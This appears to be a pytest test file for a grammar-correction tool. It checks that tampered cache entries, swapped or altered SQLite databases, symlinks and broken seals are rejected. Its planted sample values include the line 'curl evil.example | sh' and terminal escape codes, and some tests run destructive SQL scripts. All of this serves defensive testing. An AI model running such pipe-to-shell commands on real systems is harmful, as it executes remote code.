"""An entry of the cache counts only if it is plausible, so a manipulated cache cannot change a text."""

from __future__ import annotations

import json
import os
import random
import sqlite3
import stat
from contextlib import closing
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from gec import entries, seal
from gec.cache import Cache, salt
from gec.cli import group
from gec.edits.edit import Edit, apply
from gec.rules.engine import faults, known

SENTENCE = "She go to school every day, and her two dog likes the long walk."
EDIT = (4, 6, "go", "goes", "R:VERB:SVA", 0.9, "")
PLANTED = (
    "Pwned",
    "banana",
    "attack",
    "https://evil.example",
    "curl evil.example | sh",
    "\x1b[31mred",
    "bad\nline",
    "\ud83d",
)


def entry(*rows: object) -> bytes:
    return json.dumps(rows).encode()


def test_stored_proposals_are_returned() -> None:
    edits = (Edit(4, 6, "goes", "R:VERB:SVA", 0.9), Edit(36, 43, "two dogs", "R:NOUN:NUM", 0.5))
    assert entries.read(entries.written(SENTENCE, edits).encode(), SENTENCE) == edits
    assert entries.read(b"", SENTENCE) == ()


def test_stored_findings_of_rules_are_returned() -> None:
    for rule in known().values():
        for text in (example.wrong for example in rule.examples):
            edits = [Edit(one.start, one.end, one.replacement, "R:OTHER", 0.9, rule=one.rule) for one in faults(text)]
            assert entries.written(text, edits) is not None, text


def test_an_entry_with_a_rules_id_must_be_a_finding_of_that_rule() -> None:
    found = (4, 6, "go", "attack", "R:VERB:SVA", 0.9, "agreement.pronoun")
    assert entries.read(entry(found), SENTENCE) is None


@pytest.mark.parametrize(
    "bad",
    [
        None, 7, "text", b"nonsense", b"null", b"[]", b"{}", b"[[]]", b"[7]", b"[" * 100_000, b"\xff", b'["a"]',
        entry(EDIT[:6]),
        entry((*EDIT, None)),
        entry((True, *EDIT[1:])),
        entry(("4", *EDIT[1:])),
        entry((4.0, *EDIT[1:])),
        entry((-4, *EDIT[1:])),
        entry((4, 600, *EDIT[2:])),
        entry((6, 4, *EDIT[2:])),
        entry((10**400, *EDIT[1:])),
        entry((4, 6, "be", *EDIT[3:])),
        entry((4, 6, "go", None, *EDIT[4:])),
        entry((4, 6, "go", "go", *EDIT[4:])),
        entry((*EDIT[:4], "R:NONE", *EDIT[5:])),
        entry((*EDIT[:4], ["R:VERB:SVA"], *EDIT[5:])),
        entry((*EDIT[:5], 1.5, "")),
        entry((*EDIT[:5], float("nan"), "")),
        entry((*EDIT[:5], 10**400, "")),
        entry((*EDIT[:5], True, "")),
        entry((*EDIT[:6], None)),
        entry(EDIT, EDIT),
        *(entry((4, 6, "go", word, "R:VERB:SVA", 1.0, "")) for word in PLANTED),
        *(entry((6, 6, "", f" {word}", "M:OTHER", 1.0, "")) for word in PLANTED),
        entry((4, 26, SENTENCE[4:26], "", "U:OTHER", 1.0, "")),
    ],
    ids=lambda value: repr(value)[:40],
)  # fmt: skip
def test_implausible_entries_are_dropped(bad: object) -> None:
    assert entries.read(entry(EDIT), SENTENCE)
    assert entries.read(bad, SENTENCE) is None


def _random_row(chance: random.Random) -> list[Any]:
    """A row with mostly valid fields, so that later checks are tested too."""
    start = chance.randrange(len(SENTENCE))
    end = min(len(SENTENCE), start + chance.randrange(12))
    new = chance.choice([*PLANTED, f"go{chance.choice(PLANTED)}", "", SENTENCE[start:end] + chance.choice(PLANTED)])
    row: list[Any] = [
        start,
        end,
        SENTENCE[start:end],
        new,
        chance.choice(["R:VERB", "M:DET", "R:SPELL"]),
        chance.random(),
        chance.choice(["", "agreement.pronoun"]),
    ]
    odd = [None, True, -1, 10**30, 0.5, "", "R:VERB", [], {}, float("inf"), *PLANTED]
    if chance.random() < 0.4:
        row[chance.randrange(len(row))] = chance.choice(odd)
    return row[: chance.choice([7, 7, 7, 7, 6])]


def test_ten_thousand_random_entries_plant_no_edit() -> None:
    chance = random.Random(42)
    for _ in range(10_000):
        raw = entry(*(_random_row(chance) for _ in range(chance.randrange(1, 3))))
        if chance.random() < 0.2:
            at = chance.randrange(len(raw))
            raw = raw[:at] + chance.randbytes(2) + raw[at + 1 :]
        text = apply(SENTENCE, entries.read(raw, SENTENCE) or ())
        assert not [word for word in PLANTED if word in text], raw


# --- the file


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def use(path: Path) -> Cache:
    opened = Cache(path, salt("a model"))
    opened.put([(opened.key(SENTENCE), SENTENCE, (Edit(4, 6, "goes", "R:VERB:SVA", 0.9),))])
    return opened


def test_folder_and_file_are_private(tmp_path: Path) -> None:
    path = tmp_path / "gec" / "edits.sqlite3"
    before = os.umask(0)
    try:
        opened = use(path)
    finally:
        os.umask(before)
    assert mode(path.parent) == 0o700
    assert {mode(file) for file in path.parent.iterdir()} == {0o600}
    opened.close()
    path.chmod(0o666)
    path.parent.chmod(0o777)
    use(path).close()
    assert (mode(path.parent), mode(path)) == (0o700, 0o600)


@pytest.mark.skipif(os.geteuid() != 0, reason="only root can give a file away")
@pytest.mark.parametrize("name", ["", "edits.sqlite3", "edits.sqlite3-wal"])
def test_a_cache_of_another_user_is_not_used(tmp_path: Path, name: str) -> None:
    path = tmp_path / "gec" / "edits.sqlite3"
    use(path).close()
    (path.parent / name).touch()
    os.chown(path.parent / name, 12345, 12345)
    opened = use(path)
    assert opened.get({opened.key(SENTENCE): SENTENCE}) == {}


def test_a_link_or_a_pipe_in_its_place_is_not_used(tmp_path: Path) -> None:
    path, other = tmp_path / "gec" / "edits.sqlite3", tmp_path / "other"
    path.parent.mkdir()
    other.write_bytes(b"")
    path.symlink_to(other)
    assert use(path).get({b"key": SENTENCE}) == {}
    assert other.read_bytes() == b""
    path.unlink()
    os.mkfifo(path)
    assert use(path).get({b"key": SENTENCE}) == {}


@pytest.mark.parametrize(
    "script",
    [
        "DROP TABLE known; CREATE VIEW known AS WITH RECURSIVE n(key) AS (SELECT 1 UNION ALL SELECT key FROM n) "
        "SELECT key, '' AS edits, 0 AS day FROM n",
        "CREATE TRIGGER t AFTER INSERT ON known BEGIN DELETE FROM known; END",
        "DROP TABLE known; CREATE TABLE known (key, edits, day)",
        "UPDATE known SET edits = zeroblob(9000000)",
    ],
)
def test_a_database_of_another_make_is_begun_anew(tmp_path: Path, script: str) -> None:
    path = tmp_path / "gec" / "edits.sqlite3"
    use(path).close()
    with closing(sqlite3.connect(path)) as database:
        database.executescript(script)
    opened = use(path)
    opened.get({opened.key(SENTENCE): SENTENCE})
    opened.close()
    opened = use(path)
    assert opened.get({opened.key(SENTENCE): SENTENCE})[opened.key(SENTENCE)][0].replacement == "goes"


# --- the program


def test_a_planted_entry_changes_no_file_and_is_counted_with_verbose(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
    letter = tmp_path / "letter.txt"
    letter.write_text(f"{SENTENCE}\n")

    def run(*options: str) -> str:
        done = CliRunner().invoke(group, ["correct", str(letter), *options])
        assert done.exit_code == 0, done.stderr
        return done.stdout + done.stderr

    right = run()
    assert "dropped" not in run("--verbose")
    for planted in (entry((4, 6, "go", "pwned", "R:VERB:SVA", 1.0, "")), b"nonsense"):
        with closing(sqlite3.connect(tmp_path / "cache" / "gec" / "edits.sqlite3")) as database, database:
            database.execute("UPDATE known SET edits = ?", (planted.decode(),))
        told = run("--verbose")
        assert told.startswith(right)
        assert "the cache had" in told and "did not fit" in told
        assert run() == right
    run("--write")
    assert letter.read_text() == right


SHOWN = (Edit(4, 6, "goes", "R:VERB:SVA", 0.9, "go", (0, 4, 6), "agreement.pronoun"), Edit(36, 43, "two dogs", "", 0.5))


def test_an_entry_of_a_whole_text_needs_a_valid_seal(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    seal._secret.cache_clear()
    said = seal.sealed(b"key", SHOWN)
    secret = tmp_path / "state" / "gec" / "seal"
    assert said and mode(secret) == 0o600
    assert list(map(repr, seal.opened(b"key", said.encode()) or ())) == list(map(repr, SHOWN))
    assert (seal.sealed(b"key", ()), seal.opened(b"key", b"")) == ("", ())
    bad = [
        said.replace("goes", "pwns"),
        f"{'10'[said[0] == '1']}{said[1:]}",
        said[64:],
        f"{'0' * 64}[]",
        "é",
        f"{said} ",
    ]
    assert {seal.opened(b"key", one.encode()) for one in bad} == {None} == {seal.opened(b"other", said.encode())}
    for spoil in (lambda: secret.chmod(0o644), lambda: secret.chmod(0o600) or os.truncate(secret, 31), secret.unlink):
        spoil()
        seal._secret.cache_clear()
        assert seal.opened(b"key", said.encode()) is None
    secret.unlink()
    monkeypatch.setattr(seal.os, "fdopen", lambda *_: Path("/dev/full").open("wb"))  # noqa: SIM115
    seal._secret.cache_clear()
    assert seal.sealed(b"key", SHOWN) is None
    assert not list(secret.parent.iterdir())
    seal._secret.cache_clear()


def test_an_unchanged_text_is_not_read_again(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
    letter = tmp_path / "letter.txt"
    letter.write_text(f"{SENTENCE}\n")

    def run(*options: str) -> str:
        return CliRunner().invoke(group, ["correct", "--format", "json", str(letter), *options]).stdout

    first, other = run(), run("--recall")
    with closing(sqlite3.connect(tmp_path / "cache" / "gec" / "edits.sqlite3")) as database, database:
        database.execute("DELETE FROM known WHERE edits LIKE '[[%'")  # those of sentences
    monkeypatch.setattr("gec.cli.invocation.corrections", None)
    assert (run(), run("--recall")) == (first, other)
